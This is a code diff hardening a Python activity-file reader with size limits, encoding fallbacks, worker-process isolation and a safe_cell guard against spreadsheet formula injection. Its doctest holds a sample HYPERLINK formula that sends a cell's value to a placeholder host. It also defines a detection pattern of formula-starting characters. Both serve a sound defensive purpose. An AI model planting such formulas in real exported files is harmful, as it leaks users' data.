@@ -7,6 +7,13 @@ the next page with an empty first cell), or dated bullet lists ("12/03/2019 – 
 
 Nothing is dropped silently: :func:`row_problems` says, per row, why it cannot be tagged (empty
 description) and what to warn about (another language, truncated text).
+
+Files come from outside, so :func:`read_table` reads each one in a worker process
+(:mod:`miner.isolate`) with a time limit and a memory cap, refuses files over ``MAX_BYTES`` or
+``MAX_ROWS`` with a "too large" message, tries UTF-8 first and falls back to cp1252 / latin-1 with a
+warning, and never evaluates a spreadsheet formula (openpyxl reads the cached values). Cells written
+back to CSV or XLSX go through :func:`safe_cell`, so a description such as ``=HYPERLINK(...)`` is
+text, not a formula, when the file is opened in a spreadsheet.
 """
 
 from __future__ import annotations
@@ -26,11 +33,17 @@ __all__ = [
     "MAX_CHARS",
     "ActivityTable",
     "read_table",
+    "read_tables",
     "find_column",
     "to_activities",
     "read_activities",
     "row_problems",
     "enrich_activities",
+    "safe_cell",
+    "MAX_BYTES",
+    "MAX_ROWS",
+    "MAX_COLUMNS",
+    "READ_LIMITS",
 ]
 
 COLUMN_ALIASES: dict[str, tuple[str, ...]] = {
@@ -48,6 +61,13 @@ COLUMN_ALIASES: dict[str, tuple[str, ...]] = {
 MAX_CHARS = 2000
 """Longer descriptions are truncated (with a warning): an activity is a sentence or a paragraph,
 and the embedding model reads at most 256 word pieces anyway."""
+
+MAX_BYTES = 50 * 1024 * 1024
+"""Largest activity file read: a cluster's list is a few hundred rows, well under 1 MB."""
+MAX_ROWS = 100_000
+"""Most rows read: a hundred times the longest real list; a million-row file is refused, not read."""
+MAX_COLUMNS = 500
+"""Most columns kept per row: a sheet claiming 16,384 columns is cut, not expanded."""
 
 UNDATED = frozenset({"", "n.d.", "nd", "n.d", "s.d.", "sd", "-", "?", "inconnue", "unknown", "n/a"})
 """Date cells that mean "no date" ("n.d." = non daté)."""
@@ -123,29 +143,65 @@ def _clean_cell(value: Any) -> str:
     return str(value)
 
 
-def _read_csv(path: Path) -> ActivityTable:
-    raw = path.read_bytes()
-    for encoding in ("utf-8-sig", "cp1252"):
+def _decode(raw: bytes) -> tuple[str, str | None]:
+    """Text of a CSV and a warning when it was not UTF-8.
+
+    >>> _decode("Activité".encode("cp1252"))
+    ('Activité', 'not UTF-8: read as cp1252 (Windows Western European); check accented letters')
+    >>> _decode(b"\\xef\\xbb\\xbfid")[0]
+    'id'
+    """
+    if raw.startswith((b"\xff\xfe", b"\xfe\xff")):
         try:
-            text = raw.decode(encoding)
-            break
+            return raw.decode("utf-16"), None
         except UnicodeDecodeError:
-            continue
+            pass
+    try:
+        return raw.decode("utf-8-sig"), None
+    except UnicodeDecodeError:
+        pass
+    try:
+        return raw.decode("cp1252"), "not UTF-8: read as cp1252 (Windows Western European); check accented letters"
+    except UnicodeDecodeError:
+        return raw.decode("latin-1"), "not UTF-8 nor cp1252: read as latin-1; check accented letters"
+
+
+def _too_large(path: Path) -> None:
+    size = path.stat().st_size
+    if size > MAX_BYTES:
+        raise InputError(path, f"too large: {size / 2**20:.0f} MB (limit {MAX_BYTES // 2**20} MB); "
+                               "split the list or give only the activities")
+
+
+def _read_csv(path: Path) -> ActivityTable:
+    _too_large(path)
+    text, warning = _decode(path.read_bytes())
+    text = text.replace("\x00", "")
     try:
         dialect = csv.Sniffer().sniff(text[:4096], delimiters=",;\t")
     except csv.Error:
         dialect = csv.excel
-    rows = list(csv.reader(io.StringIO(text), dialect))
+    rows: list[list[str]] = []
+    try:
+        for row in csv.reader(io.StringIO(text), dialect):
+            if len(rows) > MAX_ROWS:
+                raise InputError(path, f"too large: more than {MAX_ROWS} rows; split the list")
+            rows.append(row[:MAX_COLUMNS])
+    except csv.Error as exc:
+        raise InputError(path, f"malformed CSV, line {len(rows) + 1}: {exc}") from None
     if not rows:
         raise InputError(path, "empty file: no header row")
     header, body = rows[0], rows[1:]
-    return ActivityTable(str(path), [h.strip() for h in header], body, [None] * len(body))
+    return ActivityTable(str(path), [h.strip() for h in header], body, [None] * len(body),
+                         warnings=[warning] if warning else [])
 
 
 def _read_xlsx(path: Path, sheet: str | None) -> ActivityTable:
     import openpyxl
 
+    _too_large(path)
     try:
+        # data_only: a formula cell gives the value cached by the program that saved it; nothing is evaluated.
         book = openpyxl.load_workbook(path, read_only=True, data_only=True)
     except Exception as exc:  # openpyxl raises many types for a broken file
         raise InputError(path, f"cannot read as XLSX ({type(exc).__name__}: {exc})") from None
@@ -155,15 +211,26 @@ def _read_xlsx(path: Path, sheet: str | None) -> ActivityTable:
     if sheet is not None and sheet not in names:
         raise UsageError(f"{path}: no sheet {sheet!r}; sheets found: {', '.join(names)}")
     ws = book[sheet or names[0]]
-    rows = [[_clean_cell(v) for v in row] for row in ws.iter_rows(values_only=True)]
-    book.close()
+    ws.reset_dimensions()  # read every row there is, not the range the file claims
+    rows: list[list[str]] = []
+    try:
+        for row in ws.iter_rows(values_only=True, max_col=MAX_COLUMNS):
+            if len(rows) > MAX_ROWS:
+                raise InputError(path, f"too large: more than {MAX_ROWS} rows; split the list")
+            rows.append([_clean_cell(v) for v in row])
+    except InputError:
+        raise
+    except Exception as exc:  # a damaged sheet raises XML, zip or value errors while streaming
+        raise InputError(path, f"cannot read as XLSX ({type(exc).__name__}: {exc})") from None
+    finally:
+        book.close()
     while rows and not any(c.strip() for c in rows[0]):
         rows.pop(0)
     if not rows:
         raise InputError(path, f"sheet {ws.title!r} is empty")
     header = [h.strip() for h in rows[0]]
     width = max(i + 1 for i, h in enumerate(header) if h) if any(header) else 0
-    body = [r[:width] for r in rows[1:]]
+    body = [r[:width] + [""] * (width - len(r[:width])) for r in rows[1:]]
     while body and not any(c.strip() for c in body[-1]):
         body.pop()  # openpyxl reports formatted but empty trailing rows
     return ActivityTable(str(path), header[:width], body, [None] * len(body), sheet=ws.title)
@@ -230,11 +297,7 @@ def _bullets(path: Path, lines: list[tuple[int, str]]) -> ActivityTable:
     return ActivityTable(str(path), ["date", "description"], rows, pages)
 
 
-def read_table(path: str | Path, *, sheet: str | None = None, password: str | None = None) -> ActivityTable:
-    """Read a CSV, XLSX or PDF activity list into a table of text cells."""
-    path = Path(path)
-    if not path.is_file():
-        raise InputError(path, "no such file")
+def _read_local(path: Path, sheet: str | None, password: str | None) -> ActivityTable:
     suffix = path.suffix.lower()
     if suffix in {".csv", ".tsv", ".txt"}:
         return _read_csv(path)
@@ -243,6 +306,96 @@ def read_table(path: str | Path, *, sheet: str | None = None, password: str | No
     if suffix == ".pdf":
         return _read_pdf(path, password)
     raise InputError(path, f"unsupported file type {suffix!r}; use .csv, .xlsx or .pdf")
+
+
+READ_LIMITS = None
+"""Limits of the worker that reads a file (None: :class:`miner.isolate.Limits` with a 60 s timeout
+and 1024 MB: a real list reads in well under a second and a few MB)."""
+
+
+def _read_worker(sheet: str | None, password: str | None) -> Any:
+    import json
+
+    def work(key: str) -> str:
+        try:
+            table = _read_local(Path(key), sheet, password)
+        except UsageError as exc:
+            return json.dumps({"usage": str(exc)})
+        return json.dumps({"table": table.__dict__}, ensure_ascii=False)
+
+    return work
+
+
+def read_tables(paths: Iterable[str | Path], *, sheet: str | None = None, password: str | None = None,
+                limits: Any = None) -> list[tuple[Path, ActivityTable | None, str | None]]:
+    """Read many activity files, each in its own worker; (path, table, None) or (path, None, error).
+
+    A :class:`UsageError` (a workbook needing ``--sheet``) is raised, since it is the caller's to fix.
+    """
+    import json
+
+    from miner.isolate import Limits, run_isolated
+
+    paths = [Path(p) for p in paths]
+    results: dict[str, tuple[Path, ActivityTable | None, str | None]] = {}
+    todo = []
+    for path in paths:
+        if not path.is_file():
+            results[str(path)] = (path, None, "no such file")
+        elif path.suffix.lower() not in {".csv", ".tsv", ".txt", ".xlsx", ".xlsm", ".pdf"}:
+            results[str(path)] = (path, None, f"unsupported file type {path.suffix.lower()!r}; use .csv, .xlsx or .pdf")
+        else:
+            todo.append(str(path))
+    limits = limits or READ_LIMITS or Limits(timeout=60.0, max_memory_mb=1024, jobs=1)
+    for outcome in run_isolated(_read_worker(sheet, password), todo, limits):
+        path = Path(outcome.key)
+        if outcome.error is not None:
+            results[outcome.key] = (path, None, outcome.error)
+            continue
+        data = json.loads(outcome.value or "{}")
+        if "usage" in data:
+            raise UsageError(data["usage"])
+        results[outcome.key] = (path, ActivityTable(**data["table"]), None)
+    return [results[str(p)] for p in paths]
+
+
+def read_table(path: str | Path, *, sheet: str | None = None, password: str | None = None,
+               isolate: bool = True) -> ActivityTable:
+    """Read a CSV, XLSX or PDF activity list into a table of text cells.
+
+    The file is read in a worker process with a time limit and a memory cap (``isolate=False``
+    reads it here); whatever a broken or hostile file does, the caller gets a table or an
+    :class:`InputError` with one line saying why.
+    """
+    path = Path(path)
+    if not isolate:
+        if not path.is_file():
+            raise InputError(path, "no such file")
+        return _read_local(path, sheet, password)
+    [(_, table, error)] = read_tables([path], sheet=sheet, password=password)
+    if table is None:
+        raise InputError(path, error or "unreadable")
+    return table
+
+
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+_NUMBER = re.compile(r"[+-]?(?:\d+(?:[.,]\d*)?|[.,]\d+)(?:[eE][+-]?\d+)?%?")
+
+
+def safe_cell(value: Any) -> Any:
+    """A cell for a CSV or XLSX that a spreadsheet will show as text, never run as a formula.
+
+    Text starting with ``= + - @`` (or a tab or carriage return) gets a leading apostrophe, the
+    usual guard against formula injection; numbers and other values are left as they are.
+
+    >>> print(safe_cell('=HYPERLINK("http://x/?"&A1, "clic")'))
+    '=HYPERLINK("http://x/?"&A1, "clic")
+    >>> safe_cell("-0.25"), safe_cell(3), safe_cell("Atelier")
+    ('-0.25', 3, 'Atelier')
+    """
+    if isinstance(value, str) and value.startswith(_FORMULA_START) and not _NUMBER.fullmatch(value):
+        return "'" + value
+    return value
 
 
 def row_problems(text: str, *, max_chars: int = MAX_CHARS) -> tuple[str, str | None, list[str]]:
